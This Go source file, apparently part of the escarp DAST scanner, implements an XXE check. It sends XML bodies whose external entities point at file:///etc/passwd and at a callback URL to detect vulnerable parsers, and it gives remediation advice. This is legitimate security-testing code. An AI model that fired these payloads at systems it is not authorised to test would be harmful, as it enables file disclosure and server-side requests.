package injection

import (
	"bytes"
	"context"
	"encoding/xml"
	"fmt"
	"strconv"
	"strings"
	"time"

	"github.com/escarp/escarp"
	"github.com/escarp/escarp/internal/check"
	"github.com/escarp/escarp/internal/check/checkkit"
)

// XXE is ESC-DAST-INJ-006: XML external entities.
type XXE struct {
	// Wait bounds how long a callback hit is waited for (default 2s).
	Wait time.Duration
}

var _ check.Check = (*XXE)(nil)

// Info returns the check's metadata.
func (c *XXE) Info() check.Info {
	return check.Info{
		ID:       "ESC-DAST-INJ-006",
		Title:    "XML external entity (XXE)",
		Severity: escarp.SeverityHigh,
		OWASP:    "API8:2023",
		CWE:      []string{"CWE-611"},
		Description: "On operations that accept an XML body, declares an external entity and uses it in every element: " +
			"SYSTEM \"file:///etc/passwd\" (reported when the file's contents come back) and, when escarp's callback listener runs, " +
			"SYSTEM \"<callback URL>\" (reported when the listener is hit). Each is confirmed by a second request with a fresh entity or token.",
		Remediation: "Do not resolve DTDs or external entities. Go's encoding/xml never does; with other parsers disable them:\n\n" +
			"```go\ndec := xml.NewDecoder(r) // no DTD processing, entities stay unresolved\ndec.Strict = true\n```",
		References: []string{
			"https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html",
			"https://cwe.mitre.org/data/definitions/611.html",
		},
		Scope:    check.PerOperation,
		Requires: check.Requirements{Mutating: true},
	}
}

// Run probes the operation's XML body.
func (c *XXE) Run(ctx context.Context, p *check.Pass) error {
	if p.Op.RequestBody == nil {
		return nil
	}
	var media *escarp.MediaType
	for _, m := range p.Op.RequestBody.Content {
		if strings.Contains(strings.ToLower(m.MediaType), "xml") {
			media = m
			break
		}
	}
	if media == nil {
		return nil
	}
	req, skip, err := checkkit.Prepare(ctx, p, p.Op, checkkit.Prober(p))
	if skip {
		return err
	}
	req = checkkit.Inputs(p, req)
	info := c.Info()
	doc := func(entity, system string) []byte {
		return xmlBody(req.Body, media.Schema, entity, system)
	}
	send := func(entity, system string) (*check.Response, error) {
		r := req.Clone()
		r.Body = doc(entity, system)
		r.Header.Set("Content-Type", media.MediaType)
		return checkkit.Send(ctx, p, r)
	}
	r1, err := send("xxe"+checkkit.Token(3), "file:///etc/passwd")
	if err != nil {
		return err
	}
	if r1 != nil && FileMarker.Match(r1.Body) {
		r2, err := send("xxe"+checkkit.Token(3), "file:///etc/./passwd")
		if err != nil {
			return err
		}
		if r2 != nil && FileMarker.Match(r2.Body) {
			p.Report(checkkit.Finding(info, p.Op, r1, "body:",
				fmt.Sprintf("XXE in the XML body of %s: an external entity read /etc/passwd", p.Op.Key()),
				"the answer holds "+fmt.Sprintf("%q", FileMarker.Find(r1.Body))))
			return nil
		}
	}
	cb := p.Session.Callback()
	if cb == nil {
		return nil
	}
	wait := c.Wait
	if wait <= 0 {
		wait = 2 * time.Second
	}
	for range 1 {
		tok := "xxe" + checkkit.Token(6)
		r1, err := send("e"+checkkit.Token(3), cb.URL(tok))
		if err != nil {
			return err
		}
		if !checkkit.WaitHit(ctx, cb, tok, wait) {
			return nil
		}
		tok2 := "xxe" + checkkit.Token(6)
		if _, err := send("e"+checkkit.Token(3), cb.URL(tok2)); err != nil {
			return err
		}
		if !checkkit.WaitHit(ctx, cb, tok2, wait) {
			return nil
		}
		p.Report(checkkit.Finding(info, p.Op, r1, "body:",
			fmt.Sprintf("XXE in the XML body of %s: an external entity made the server fetch escarp's callback URL", p.Op.Key()),
			"the callback listener was hit for both tokens"))
	}
	return nil
}

// xmlBody returns an XML document declaring entity as SYSTEM system and
// referencing it in every text element. It keeps the prepared document's
// shape when it is XML, else builds one from the schema.
func xmlBody(prepared []byte, s *escarp.Schema, entity, system string) []byte {
	ref := "&" + entity + ";"
	root, inner := "", ""
	if bytes.HasPrefix(bytes.TrimSpace(prepared), []byte("<")) {
		root, inner = rewriteXML(prepared, ref)
	}
	if root == "" {
		root = "root"
		if s != nil && s.Name != "" {
			root = s.Name
		}
		var b strings.Builder
		if s != nil {
			for _, name := range s.SortedPropertyNames() {
				ps := s.Properties[name]
				if ps != nil && (ps.HasType("object") || ps.HasType("array")) {
					continue
				}
				if ps != nil && (ps.HasType("number") || ps.HasType("integer")) {
					fmt.Fprintf(&b, "<%s>1</%s>", name, name)
					continue
				}
				fmt.Fprintf(&b, "<%s>%s</%s>", name, ref, name)
			}
		}
		if b.Len() == 0 {
			b.WriteString(ref)
		}
		inner = b.String()
	}
	return []byte(fmt.Sprintf("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE %s [<!ENTITY %s SYSTEM \"%s\">]>\n<%s>%s</%s>",
		root, entity, system, root, inner, root))
}

// rewriteXML returns the root element name of doc and its content with
// every non-empty text replaced by ref.
func rewriteXML(doc []byte, ref string) (string, string) {
	dec := xml.NewDecoder(bytes.NewReader(doc))
	var root string
	var b strings.Builder
	depth := 0
	for {
		tok, err := dec.Token()
		if err != nil {
			break
		}
		switch t := tok.(type) {
		case xml.StartElement:
			if depth == 0 {
				root = t.Name.Local
			} else {
				b.WriteString("<" + t.Name.Local + ">")
			}
			depth++
		case xml.EndElement:
			depth--
			if depth > 0 {
				b.WriteString("</" + t.Name.Local + ">")
			}
		case xml.CharData:
			txt := string(bytes.TrimSpace(t))
			if depth == 0 || txt == "" {
				continue
			}
			if _, err := strconv.ParseFloat(txt, 64); err == nil || txt == "true" || txt == "false" {
				var esc bytes.Buffer
				_ = xml.EscapeText(&esc, []byte(txt))
				b.Write(esc.Bytes())
				continue
			}
			b.WriteString(ref)
		}
	}
	return root, b.String()
}
